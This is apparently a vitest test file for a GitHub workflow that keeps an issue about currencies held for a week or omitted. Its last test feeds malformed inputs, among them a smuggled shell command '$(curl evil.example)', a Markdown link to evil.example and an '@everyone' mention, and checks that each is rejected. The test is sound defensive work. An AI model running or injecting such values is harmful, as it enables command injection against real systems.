import { explainQuality } from '../../validation/snapshot/explain-quality.ts';
import { describe, expect, it } from 'vitest';
import type { LongDoubt } from './long-doubts.ts';
import { issueKeeper } from '../../testing/servers/issue-keeper.ts';
import { heldHkd as hkd } from '../../testing/data/long-doubt.ts';
import { CommandError } from '../terminal/command.ts';
import { keepDoubtsIssue } from './doubts-issue.ts';

const omitted: LongDoubt = {
  ...hkd,
  code: 'BRL',
  state: 'omitted',
  reason: 'missing',
  published: null,
  publishedAsOf: null,
  basis: null,
  sourceValue: null,
  endsBy: null,
};

const workflow = issueKeeper(keepDoubtsIssue);
const { keep } = workflow;
const states = () => workflow.api.issues.map(({ state }) => state);

describe('keepDoubtsIssue (GitHub issue about currencies held for a week or omitted)', () => {
  it('opens one issue with a line for each currency and a link to the workflow run', async () => {
    await keep([hkd, omitted]);
    expect(workflow.api.issues).toMatchObject([
      { state: 'open', title: 'A currency needs a look: held for a week, or omitted', comments: [] },
    ]);
    const body = workflow.api.issues[0]?.body ?? '';
    expect(body.match(/^- [A-Z]{3}.*$/gm)).toEqual([
      `- ${explainQuality('HKD', { ...hkd, witnesses: [] })}`,
      `- ${explainQuality('BRL', { ...omitted, witnesses: [] })}`,
    ]);
    expect(body).toContain('\n\n<!-- HKD held 2026-09-21 -->\n<!-- BRL omitted 2026-09-21 -->\n\n');
    expect(body).toMatch(/\n\nThe run that wrote this: https:\/\/github\.com\/me\/fork\/actions\/runs\/1$/);
  });

  it('doesn’t edit the issue if the list of currencies hasn’t changed', async () => {
    await keep([hkd]);
    await keep([hkd]);
    Object.assign(workflow.api.issues[0] ?? {}, { body: workflow.api.issues[0]?.body.replaceAll('\n', '\r\n') });
    await keep([hkd]);
    expect(workflow.api.edits).toEqual([]);
    expect(states()).toEqual(['open']);
  });

  it('edits the issue’s text only in the first run after the list of currencies changes', async () => {
    await keep([hkd]);
    for (let run = 0; run < 2; run++) await keep([{ ...hkd, sourceValue: 8.3 }, omitted]);
    expect(workflow.api.edits).toEqual(['body']);
    expect(workflow.api.issues).toMatchObject([{ state: 'open', comments: [] }]);
    expect(workflow.api.issues[0]?.body).toMatch(/8\.3[^]*BRL[^]*runs\/2$/);
  });

  it('opens the issue even if the publish failed after validation', async () => {
    await keep([hkd], 'failure');
    await keep([omitted], 'cancelled');
    expect(workflow.api.edits).toEqual(['body']);
    expect(states()).toEqual(['open']);
  });

  it('closes the issue if a successful publish lists no currencies', async () => {
    await keep([hkd]);
    await keep([], 'failure');
    expect(states()).toEqual(['open']);
    await keep([]);
    await keep([]);
    expect(workflow.api.issues).toMatchObject([
      {
        state: 'closed',
        comments: ['No currency needs a look anymore: https://github.com/me/fork/actions/runs/3'],
      },
    ]);
    await keep([hkd]);
    expect(states()).toEqual(['closed', 'open']);
  });

  it('after a person closes the issue, opens another issue only if a held currency becomes omitted', async () => {
    await keep([hkd, omitted]);
    Object.assign(workflow.api.issues[0] ?? {}, { state: 'closed' });
    await keep([hkd, omitted]);
    await keep([{ ...hkd, sourceValue: 8.3 }]);
    expect(states()).toEqual(['closed']);
    await keep([{ ...hkd, state: 'omitted', since: '2026-10-20' }]);
    expect(states()).toEqual(['closed', 'open']);
  });

  it('changes nothing if the publish job’s output is empty', async () => {
    await keep([hkd]);
    await keep('');
    await keep('', 'failure');
    expect(workflow.api.edits).toEqual([]);
    expect(states()).toEqual(['open']);
  });

  it('never changes an issue that has the same title but a different author', async () => {
    const [title, body] = ['A currency needs a look: held for a week, or omitted', 'mine'];
    workflow.api.issues.push({ number: 1, state: 'open', title, labels: [], body, comments: [], author: 'me' });
    await keep([]);
    await keep([hkd]);
    await keep([]);
    expect(workflow.api.issues).toMatchObject([{ state: 'open', body, comments: [] }, { state: 'closed' }]);
  });

  it.each([
    ['isn’t JSON', 'nonsense'],
    ['isn’t a list', '{}'],
    ['mentions a GitHub user in place of a currency', JSON.stringify([{ ...hkd, code: '@everyone' }])],
    ['has Markdown in place of a reason', JSON.stringify([{ ...hkd, reason: '`\n# [look](https://evil.example)' }])],
    ['has a shell command in place of a value', JSON.stringify([{ ...hkd, sourceValue: '$(curl evil.example)' }])],
  ])('throws and opens no issue if the publish job’s output %s', async (_, output) => {
    await expect(keep(output)).rejects.toThrow(CommandError);
    await expect(keep(output)).rejects.toThrow(
      /^The publish job’s output "doubts" is malformed\. See \S+, which .*\.$/,
    );
    expect(workflow.api.issues).toEqual([]);
  });
});
